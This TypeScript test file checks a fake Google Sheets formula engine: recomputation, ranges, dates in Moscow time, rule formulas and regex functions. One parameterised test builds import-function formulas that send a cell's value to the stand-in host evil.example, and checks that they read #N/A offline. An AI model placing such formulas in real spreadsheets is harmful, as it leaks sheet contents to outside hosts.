/**
 * Formula cells computed like Google Sheets (dev/fakes/formulas.ts): values and display values are the
 * results, getFormulas the text; functions that fetch from outside read #N/A as Sheets shows them
 * offline; TODAY() follows the runtime's clock in the spreadsheet's zone; custom formulas of rules are
 * judged by the same engine, relative to the rule's top-left cell.
 */
import { engineBuilds, OFFLINE_FUNCTIONS } from '../../dev/fakes/formulas';
import { moscowDay, runtime } from './helpers';

describe('formula cells', () => {
  it('read as their results; getFormulas gives the text; later edits recompute', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:A4').setValues([['1,5'], ['=A1*2'], ['=SUM(A1:A2)'], ['=CONCATENATE("№ ",A2)']]);
    sheet.getRange('B1:B2').setFormulas([['=A1+1'], ['=1/0']]);
    expect(sheet.getRange('A3:A4').getValues()).toEqual([[4.5], ['№ 3']]);
    expect(sheet.getRange('A1:B2').getValues()).toEqual([
      [1.5, 2.5],
      [3, '#DIV/0!'],
    ]);
    expect(sheet.getRange('A1:B2').getDisplayValues()).toEqual([
      ['1,5', '2,5'],
      ['3', '#DIV/0!'],
    ]);
    expect(sheet.getRange('A1:B2').getFormulas()).toEqual([
      ['', '=A1+1'],
      ['=A1*2', '=1/0'],
    ]);
    sheet.getRange('A1').setValue(10);
    expect(sheet.getRange('A2:B2').getValues()).toEqual([[20, '#DIV/0!']]);
  });

  it('takes open-ended ranges (A2:A runs to the sheet’s last row), as Sheets does', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:A4').setValues([['ID'], ['P-1'], ['P-2'], ['P-1']]);
    sheet.getRange('A999').setValue('P-1');
    sheet.getRange('B2:B3').setFormulas([['=COUNTIF($A$2:$A,A2)'], ['=COUNTIF($A$3:$A,A3)']]);
    expect(sheet.getRange('B2:B3').getValues()).toEqual([[3], [1]]);
  });

  it('reads other sheets, and a text cell stays text (not a number, not a formula)', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    const other = rt.spreadsheet.insertSheet('Настройки');
    other.getRange('A1:A2').setValues([['007'], ["'=1+1"]]);
    other.getRange('A3').setNumberFormat('@').setValue('12');
    sheet.getRange('A1:C1').setFormulas([['=Настройки!A1+1', '=ISTEXT(Настройки!A2)', '=ISTEXT(Настройки!A3)']]);
    expect(sheet.getRange('A1:C1').getValues()).toEqual([[8, true, true]]);
  });

  it.each(OFFLINE_FUNCTIONS)('%s reads #N/A, as Sheets shows it when it cannot fetch', (name) => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1').setValue('Отдел');
    sheet.getRange('B1').setFormula(`=${name}("http://evil.example/?q="&A1, "//a")`);
    expect(sheet.getRange('B1').getValue()).toBe('#N/A');
    expect(sheet.getRange('B1').getDisplayValue()).toBe('#N/A');
    expect(sheet.getRange('B1').getFormula()).toBe(`=${name}("http://evil.example/?q="&A1, "//a")`);
  });

  it('TODAY() is the runtime’s day in the spreadsheet’s zone and reads as a Date', () => {
    // 00:30 on the 6th in Moscow is 21:30 UTC on the 5th: the spreadsheet's (Moscow's) day counts.
    const rt = runtime({ now: new Date('2026-03-06T00:30:00+03:00') });
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:A2').setFormulas([['=TODAY()'], ['=TODAY()-DATE(2026,3,1)']]);
    expect(sheet.getRange('A1:A2').getValues()).toEqual([[moscowDay('2026-03-06')], [5]]);
    expect(sheet.getRange('A1').getDisplayValue()).toBe('06.03.2026');
    rt.setNow(new Date('2026-03-09T10:00:00+03:00'));
    expect(sheet.getRange('A2').getValue()).toBe(8);
  });

  it('builds no engine for reads of cells without formulas, one per state with them', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:C3').setValues([
      ['a', 1, '05.03.2024'],
      ['b', 2, ''],
      ['c', 3, ''],
    ]);
    const before = engineBuilds();
    sheet.getRange('A1:C3').getValues();
    sheet.getDataRange().getDisplayValues();
    expect(engineBuilds()).toBe(before);
    sheet.getRange('D1:D3').setFormulas([['=B1*2'], ['=B2*2'], ['=B3*2']]);
    expect(sheet.getRange('D1:D3').getValues()).toEqual([[2], [4], [6]]);
    expect(sheet.getRange('D1:D3').getDisplayValues()).toEqual([['2'], ['4'], ['6']]);
    expect(engineBuilds()).toBe(before + 1);
    // A write is passed to the engine cell by cell, not by a rebuild; moving rows rebuilds it.
    sheet.getRange('B2').setValue(20);
    sheet.getRange('D3').setFormula('=B3*3');
    expect(sheet.getRange('D1:D3').getValues()).toEqual([[2], [40], [9]]);
    expect(engineBuilds()).toBe(before + 1);
    sheet.insertRowsBefore(1, 1);
    // The formulas are not shifted (a simplification, dev/fakes/README.md): D2 still reads B1, now empty.
    expect(sheet.getRange('D2').getValue()).toBe(0);
    expect(engineBuilds()).toBe(before + 2);
  });
});

describe('custom formulas of rules (evaluateFormulaAt)', () => {
  it('moves relative references with the cell judged, keeps $-anchored ones', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:B4').setValues([
      ['Организация', 'Ссылка'],
      ['Отдел', 'vk.com/a'],
      ['', 'vk.com/b'],
      ['Отдел', 'vk.com/a'],
    ]);
    const rule = '=AND($A2<>"",COUNTIF($B$2:$B$100,B2)>1)';
    const judged = [2, 3, 4].map((row) =>
      rt.spreadsheet.evaluateFormulaAt(rule, 'Реестр', { row: 2, column: 2 }, { row, column: 2 }),
    );
    expect(judged).toEqual([true, false, true]);
    // Nothing written: the sheet still has only its two columns.
    expect(sheet.getLastColumn()).toBe(2);
  });
});

describe('Sheets functions the engine lacks', () => {
  it('REGEXMATCH, REGEXEXTRACT and REGEXREPLACE are computed', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1').setValue('https://vk.com/school1');
    sheet
      .getRange('B1:E1')
      .setFormulas([
        [
          '=REGEXMATCH(A1,"^https://vk\\.com/")',
          '=REGEXMATCH(A1,"ok\\.ru")',
          '=REGEXEXTRACT(A1,"vk\\.com/(\\w+)")',
          '=REGEXREPLACE(A1,"^https://","")',
        ],
      ]);
    expect(sheet.getRange('B1:E1').getValues()).toEqual([[true, false, 'school1', 'vk.com/school1']]);
  });

  it('ISDATE tells a date cell from a number; TO_TEXT writes values as the Russian locale shows them', () => {
    const rt = runtime();
    const sheet = rt.spreadsheet.insertSheet('Реестр');
    sheet.getRange('A1:A4').setValues([['05.03.2026'], [46086], ['1,5'], ['текст']]);
    sheet.getRange('B1:B4').setFormulas([['=ISDATE(A1)'], ['=ISDATE(A2)'], ['=ISDATE(A3)'], ['=ISDATE(A4)']]);
    sheet.getRange('C1:C4').setFormulas([['=TO_TEXT(A1)'], ['=TO_TEXT(A2)'], ['=TO_TEXT(A3)'], ['=TO_TEXT(A4)']]);
    expect(sheet.getRange('B1:C4').getValues()).toEqual([
      [true, '05.03.2026'],
      [false, '46086'],
      [false, '1,5'],
      [false, 'текст'],
    ]);
    sheet.getRange('D1').setFormula('=A1+1');
    expect(sheet.getRange('D1').getValue()).toEqual(moscowDay('2026-03-06'));
  });
});
